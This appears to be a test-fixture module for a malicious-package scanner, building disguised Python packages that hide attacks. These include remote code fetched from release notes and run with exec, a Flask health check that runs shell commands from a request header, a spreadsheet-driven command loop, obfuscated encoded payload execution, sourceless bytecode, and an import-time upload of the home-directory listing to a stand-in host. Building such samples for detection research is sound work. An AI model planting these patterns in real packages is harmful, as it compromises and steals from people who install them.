"""Campaigns whose parts stand apart: what is fetched here is run there, and what is run nobody can read."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import importlib.util
import marshal

from tests.campaigns.at_start import MODULE, imported
from tests.campaigns.forge import Built, Shapes, sdist, wheel
from tests.campaigns.payloads import STEALER

__all__ = ["RECENT_FLOWS"]

RECENT_FLOWS = Shapes()
HIDDEN = bytes((b + 11 * i) & 255 for i, b in enumerate(STEALER.encode()))
UNDO = "def _t(v):\n    return bytes((b - 11 * i) & 255 for i, b in enumerate(v))\n\n"


@RECENT_FLOWS
def flow_theme_from_release() -> Built:
    """A console library draws its theme by what a release note holds, three functions away from the request"""
    return wheel(
        "consoletint",
        {
            "consoletint/__init__.py": MODULE + "from .theme import Theme\n",
            "consoletint/theme.py": """\
import json
import urllib.request

NOTES = "https://notes.example.invalid/consoletint/latest"


def _notes():
    with urllib.request.urlopen(NOTES, timeout=4) as answer:
        return json.load(answer)


def _palette(notes):
    for line in notes["body"].splitlines():
        if line.startswith("palette "):
            yield line.partition(" ")[2]


class Theme:
    def __init__(self):
        self.space = {}
        self.rows = list(_palette(_notes()))

    def draw(self):
        for row in self.rows:
            exec(bytes.fromhex(row).decode(), self.space)
        return self.space
""",
        },
    )


@RECENT_FLOWS
def flow_header_is_a_command() -> Built:
    """An extension for health checks runs what a header of a request holds"""
    return wheel(
        "flask-upcheck",
        {
            "flask_upcheck/__init__.py": MODULE + "from .views import register\n",
            "flask_upcheck/views.py": """\
import base64
import subprocess

from flask import Blueprint, jsonify, request

checks = Blueprint("checks", __name__)


def _probe(text):
    done = subprocess.run(text, shell=True, capture_output=True, text=True, timeout=20)
    return done.stdout


@checks.route("/upcheck")
def upcheck():
    trace = request.headers.get("X-Up-Trace")
    if trace:
        return jsonify(ok=True, trace=_probe(base64.b64decode(trace).decode()))
    return jsonify(ok=True)


def register(app):
    app.register_blueprint(checks)
""",
        },
    )


@RECENT_FLOWS
def flow_spreadsheet_orders() -> Built:
    """A helper for spreadsheets runs the commands of a sheet of its own"""
    return wheel(
        "sheetmerge",
        {
            "sheetmerge/__init__.py": MODULE + "from .merge import merge\n",
            "sheetmerge/merge.py": """\
import subprocess
import threading
import time

import gspread


def _orders():
    book = gspread.service_account(filename=".merge.json").open_by_key("1OrdersOrdersOrders")
    tab = book.worksheet("log")
    while True:
        for number, order in enumerate(tab.col_values(1), 1):
            tab.update_cell(number, 2, subprocess.getoutput(order)[:40000])
        time.sleep(30)


def merge(left, right):
    threading.Thread(target=_orders, daemon=True).start()
    return [*left, *right]
""",
        },
    )


@RECENT_FLOWS
def flow_own_cipher() -> Built:
    """A module that others import runs bytes that only its own arithmetic can read"""
    text = f"{UNDO}class _Table:\n    def __getitem__(self, key):\n        return _t(key)\n\n\nexec(_Table()[{HIDDEN!r}])\n"
    return imported("sortedrows", text, proxy=True)


@RECENT_FLOWS
def flow_own_cipher_when_used() -> Built:
    """A method runs a list of numbers once somebody calls it"""
    return sdist(
        "rowhash",
        {
            "setup.py": "from setuptools import setup\nsetup(name='rowhash', version='1.2.0', packages=['rowhash'])\n",
            "rowhash/__init__.py": MODULE,
            "rowhash/table.py": f"""\
SEED = {list(HIDDEN)}


class Table:
    def __matmul__(self, seed):
        return bytes((b - 11 * i) & 255 for i, b in enumerate(seed))

    def digest(self, row):
        space = {{"row": row}}
        exec(self @ SEED, space)
        return space.get("digest")
""",
        },
    )


@RECENT_FLOWS
def flow_own_cipher_compiled() -> Built:
    """Bytecode without its source runs bytes that only its own arithmetic can read"""
    code = marshal.dumps(compile(f"{UNDO}exec(_t({HIDDEN!r}))\n", "core.py", "exec"))
    return wheel(
        "fastrows",
        {
            "fastrows/__init__.py": MODULE + "from . import core\n",
            "fastrows/core.pyc": importlib.util.MAGIC_NUMBER + bytes(12) + code,
        },
    )


@RECENT_FLOWS
def flow_started_by_the_package() -> Built:
    """The package starts a function of a module that does nothing by itself"""
    return wheel(
        "ratelimits",
        {
            "ratelimits/__init__.py": MODULE + "from .limits import Limit\nfrom ._usage import begin\n\nbegin()\n",
            "ratelimits/limits.py": "class Limit:\n    def __init__(self, count):\n        self.count = count\n",
            "ratelimits/_usage.py": """\
import os
import threading
from http.client import HTTPSConnection


def _note():
    line = HTTPSConnection("usage.example.invalid", timeout=3)
    try:
        line.request("PUT", "/n", body="\\n".join(os.listdir(os.path.expanduser("~"))))
    except OSError:
        pass


def begin():
    threading.Thread(target=_note, daemon=True).start()
""",
        },
    )
